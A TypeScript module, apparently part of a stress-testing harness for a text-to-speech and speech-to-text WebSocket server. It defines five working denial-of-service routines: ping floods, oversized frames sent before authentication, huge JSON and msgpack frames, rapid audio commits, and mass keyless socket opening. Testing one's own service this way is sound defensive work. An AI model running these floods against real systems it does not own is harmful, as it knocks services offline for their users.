import { encode } from "@msgpack/msgpack";
import type { Attack } from "../attack.js";
import { authorized, closeOf, openRaw, openSocket, repeatedly } from "../connection.js";

const streamInput = "/compat/elevenlabs/v1/text-to-speech/default/stream-input";

/** The head of an upgrade, for sockets that send frames by hand. */
const upgradeHead = (path: string, ...fields: string[]): string =>
  [
    `GET ${path} HTTP/1.1`,
    "Host: a",
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    ...fields,
    "",
    "",
  ].join("\r\n");

/** A masked client frame's head (RFC 6455 section 5.2) with a mask of zeros. */
function frameHead(opcode: number, bytes: number): Buffer {
  const head = Buffer.alloc(14);
  head[0] = 0x80 | opcode;
  head[1] = 0x80 | 127;
  head.writeBigUInt64BE(BigInt(bytes), 2);
  return head;
}

/** The engine answers every ping by itself. */
export const pings: Attack = {
  name: "pings and never reads the pongs",
  needsKey: false,
  async run(target, signal) {
    const ping = Buffer.concat([Buffer.from([0x89, 0x80 | 125, 0, 0, 0, 0]), Buffer.alloc(125, "a")]);
    const flood = Buffer.concat(Array.from({ length: 500 }, () => ping));
    await repeatedly(4, signal, async () => {
      const connection = openRaw(target, signal, true);
      for (let isTaken = await connection.send(upgradeHead(streamInput)); isTaken; )
        isTaken = await connection.send(flood);
      await connection.closed;
    });
  },
};

/** Whatever comes before the key is a stranger's. */
export const framesBeforeKey: Attack = {
  name: "sends large frames, whole and unfinished, before any key",
  needsKey: false,
  async run(target, signal) {
    const json = Buffer.from(
      JSON.stringify({ text: " ", voice_settings: Array.from({ length: 400_000 }, (_, index) => ({ a: index })) }),
    );
    const piece = Buffer.alloc(256 * 1024, "[");
    await repeatedly(20, signal, async (lane) => {
      const connection = openRaw(target, signal);
      let isTaken = await connection.send(upgradeHead(streamInput));
      if (lane % 4 === 0) {
        isTaken &&= await connection.send(Buffer.concat([frameHead(1, json.length), json]));
      } else {
        isTaken &&= await connection.send(frameHead(1, 32 * 1024 * 1024));
        for (let sent = 0; isTaken && sent < 31 * 1024 * 1024; sent += piece.length)
          isTaken = await connection.send(piece);
      }
      const timer = setTimeout(() => connection.socket.destroy(), 2000);
      await connection.closed;
      clearTimeout(timer);
    });
  },
};

/** With a key: frames as large as the protocol has, of many small values. */
export const largeFrames: Attack = {
  name: "sends large frames of many values on every socket",
  needsKey: true,
  async run(target, signal) {
    const values = Array.from({ length: 800_000 }, (_, index) => index);
    const json = JSON.stringify({ type: "session.update", text: " ", session: values, audio_base_64: values });
    const msgpack = encode({ event: "start", request: { text: "", references: values } });
    const paths = [
      "/v1/tts/live",
      streamInput,
      "/compat/openai/v1/realtime?model=s1",
      "/compat/elevenlabs/v1/speech-to-text/realtime",
    ];
    await repeatedly(4, signal, async (lane) => {
      const socket = await openSocket(
        target,
        { path: paths[lane] ?? "", headers: { ...authorized(target), "xi-api-key": target.apiKey } },
        signal,
      );
      if (socket === null) return;
      const closed = closeOf(socket);
      const timer = setInterval(
        () => socket.bufferedAmount < 10_000_000 && socket.send(lane === 0 ? msgpack : json),
        100,
      );
      await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 3000))]);
      clearInterval(timer);
      socket.terminate();
    });
  },
};

/** Every commit is a file to transcribe. */
export const commits: Attack = {
  name: "commits audio faster than it can be transcribed",
  needsKey: true,
  async run(target, signal) {
    const audio = Buffer.alloc(480_000, 7).toString("base64");
    await repeatedly(2, signal, async () => {
      const socket = await openSocket(
        target,
        { path: "/compat/openai/v1/realtime?intent=transcription", headers: authorized(target) },
        signal,
      );
      if (socket === null) return;
      const closed = closeOf(socket);
      const timer = setInterval(() => {
        if (socket.bufferedAmount > 10_000_000) return;
        socket.send(JSON.stringify({ type: "input_audio_buffer.append", audio }));
        socket.send(JSON.stringify({ type: "input_audio_buffer.commit" }));
      }, 5);
      await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, 5000))]);
      clearInterval(timer);
      socket.terminate();
    });
  },
};

/** Sockets of somebody who never says who he is. */
export const socketsWithoutKey: Attack = {
  name: "opens sockets and brings no key",
  needsKey: false,
  async run(target, signal) {
    await repeatedly(400, signal, async () => {
      const socket = await openSocket(target, { path: streamInput }, signal);
      if (socket === null) await new Promise((resolve) => setTimeout(resolve, 200));
      else await closeOf(socket);
    });
  },
};
